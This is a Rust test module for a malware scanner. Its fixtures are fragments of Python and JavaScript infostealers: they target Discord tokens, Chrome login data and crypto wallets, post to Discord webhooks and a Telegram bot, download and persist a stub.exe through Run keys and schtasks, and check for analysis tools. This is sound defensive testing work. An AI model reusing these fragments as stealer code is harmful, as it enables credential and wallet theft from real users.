    fn one<'a>(s: &'a [Signal], id: &str) -> Option<&'a Signal> {
        s.iter().find(|s| s.signal == id)
    }

    #[test]
    fn token_grabber_shape() {
        let src = r#"import os, re, requests
local = os.getenv('LOCALAPPDATA'); roaming = os.getenv('APPDATA')
paths = {
    'Discord': roaming + '\\discord\\Local Storage\\leveldb\\',
    'Chrome': local + '\\Google\\Chrome\\User Data\\Default',
    'Exodus': roaming + '\\Exodus\\exodus.wallet',
}
key_path = local + '\\Google\\Chrome\\User Data\\Local State'
db = 'Login Data'
wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn']
tg = os.path.join(roaming, 'Telegram Desktop', 'tdata')
for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", data): pass
WEBHOOK = "https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012"
"#;
        let s = signals("grab/__init__.py", src);
        let t = one(&s, ids::STEALER_TARGETS).expect("targets");
        assert_eq!(t.value, Some(4.0), "{t:?}");
        assert!(t.detail.contains("MetaMask extension"), "{t:?}");
        let e = one(&s, ids::EXFIL_CREDENTIAL).expect("webhook");
        assert_eq!(e.line, Some(13));
        assert!(
            !e.detail.contains("aBcDeFgHiJkL"),
            "secret not masked: {e:?}"
        );
        // Order: the credential comes before the targets (rules rely on it).
        let pos = |id| s.iter().position(|x| x.signal == id);
        assert!(pos(ids::EXFIL_CREDENTIAL) < pos(ids::STEALER_TARGETS));
    }

    #[test]
    fn javascript_grabber() {
        let src = r#"const path = require('path'), { execSync } = require('child_process');
const local = process.env.LOCALAPPDATA, roaming = process.env.APPDATA;
const paths = [roaming + '\\discord\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Login Data'];
const ext = path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const blacklist = [`WDAGUtilityAccount`, "vmtoolsd.exe", "VBoxService", "wireshark", "fiddler"];
fetch('https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012', { method: 'POST' });
"#;
        let s = signals("index.js", src);
        assert_eq!(
            one(&s, ids::STEALER_TARGETS).and_then(|t| t.value),
            Some(3.0),
            "{s:?}"
        );
        assert_eq!(
            one(&s, ids::ANTI_ANALYSIS).and_then(|t| t.value),
            Some(5.0),
            "{s:?}"
        );
        assert!(one(&s, ids::EXFIL_CREDENTIAL).is_some(), "{s:?}");
    }

    #[test]
    fn cookie_library_is_one_category() {
        let src = r#"
def _get_chrome_like_path(browser):
    browser_dir = {'chrome': os.path.join(appdata_local, R'Google\Chrome\User Data'),
                   'brave': os.path.join(appdata_local, R'BraveSoftware\Brave-Browser\User Data')}[browser]
    return browser_dir
cookie_file = os.path.join(path, 'Network', 'Cookies')
key = os.path.join(browser_root, 'Local State')
ff = os.path.join(appdata, R'Mozilla\Firefox\Profiles'); db = 'cookies.sqlite'
"#;
        let s = signals("cookies.py", src);
        let t = one(&s, ids::STEALER_TARGETS).expect("targets");
        assert_eq!(t.value, Some(1.0), "{t:?}");
        // Words in prose do not make a category.
        let s = signals(
            "doc.py",
            "# Telegram bots; tdata is a name\nx = 'discord'\nleveldb = 1\n",
        );
        assert!(one(&s, ids::STEALER_TARGETS).is_none(), "{s:?}");
    }

    #[test]
    fn telegram_tokens_plain_and_base64() {
        let src = "TOKEN = '5712345678:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1'\nbot.send_document(chat_id, f)\n";
        let s = signals("b.py", src);
        let e = one(&s, ids::EXFIL_CREDENTIAL).expect("token");
        assert!(e.detail.contains("bot 5712345678"), "{e:?}");
        let url = "https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012";
        let b64 = base64::engine::general_purpose::STANDARD.encode(url);
        let s = signals("c.py", &format!("h = b64decode('{b64}')\n"));
        let e = one(&s, ids::EXFIL_CREDENTIAL).expect("base64 webhook");
        assert!(e.detail.contains("base64"), "{e:?}");
        let s = signals("m.py", "bit64 = \"aHR0cHM6Ly9iaXQubHkvM09xZUZVbg==\"\n");
        let e = one(&s, ids::ENDPOINT_EXFIL_SERVICE).expect("base64 drop");
        assert_eq!(e.detail, "bit.ly: https://bit.ly/3OqeFUn (base64-encoded)");
        // Docs-style placeholders are not credentials.
        let s = signals(
            "w.py",
            "Webhook.from_url('https://discord.com/api/webhooks/12345/abcdef')\nx = '123:AAbc'\n",
        );
        assert!(one(&s, ids::EXFIL_CREDENTIAL).is_none(), "{s:?}");
    }

    #[test]
    fn persistence_and_executable_download() {
        let src = r#"import os, requests, subprocess
url = "https://cdn.discordapp.com/attachments/1045000289708687390/1045159487079723058/stub.exe"
open(os.getenv("APPDATA") + "\\stub.exe", "wb").write(requests.get(url).content)
startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
subprocess.run('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d stub.exe', shell=True)
os.system("schtasks /create /tn upd /tr stub.exe /sc onlogon")
"#;
        let s = signals("setup.py", src);
        let p = one(&s, ids::WINDOWS_PERSISTENCE).expect("persistence");
        assert_eq!(p.value, Some(4.0), "{p:?}");
        let d = one(&s, ids::EXECUTABLE_DOWNLOAD).expect("download");
        assert_eq!((d.value, d.line), (Some(2.0), Some(2)), "{d:?}");
        assert!(d.detail.contains("cdn.discordapp.com/attachments"), "{d:?}");
        // An installer URL in a file that runs nothing; a runner with no exe URL.
        let s = signals(
            "a.py",
            "URL = 'https://github.com/x/y/releases/download/v1/tool.exe'\n",
        );
        assert!(one(&s, ids::EXECUTABLE_DOWNLOAD).is_none(), "{s:?}");
        let s = signals(
            "b.py",
            "import subprocess\nsubprocess.run(['x.exe'])\nu = 'https://example.com/docs/'\n",
        );
        assert!(one(&s, ids::EXECUTABLE_DOWNLOAD).is_none(), "{s:?}");
        let s = signals(
            "c.js",
            "const cp = require('child_process');\nfetch('https://github.com/o/r/releases/download/v1/ffmpeg.exe')\n",
        );
        assert_eq!(
            one(&s, ids::EXECUTABLE_DOWNLOAD).and_then(|d| d.value),
            Some(1.0)
        );
        let s = signals(
            "r.py",
            "from x import Runtime\nk = 'Software\\\\CurrentVersion\\\\Runtime'\n",
        );
        assert!(one(&s, ids::WINDOWS_PERSISTENCE).is_none(), "{s:?}");
    }

    #[test]
    fn anti_analysis_names_in_quotes_only() {
        let src = r#"BLACKLIST_USERS = ["WDAGUtilityAccount", "Abby", "hmarc", "patex", "RDhJ0CNFevzX"]
BLACKLIST_PROCS = ['vmtoolsd.exe', 'VBoxService', 'wireshark', 'fiddler', 'httpdebuggerui']
"#;
        let s = signals("vm.py", src);
        let a = one(&s, ids::ANTI_ANALYSIS).expect("anti-analysis");
        assert_eq!(a.value, Some(9.0), "{a:?}");
        assert!(a.detail.contains("4 user"), "{a:?}");
        let s = signals(
            "proxy.py",
            "# works behind Fiddler or Wireshark captures\nFIDDLER_PORT = 8888\n",
        );
        assert!(one(&s, ids::ANTI_ANALYSIS).is_none(), "{s:?}");
    }
}
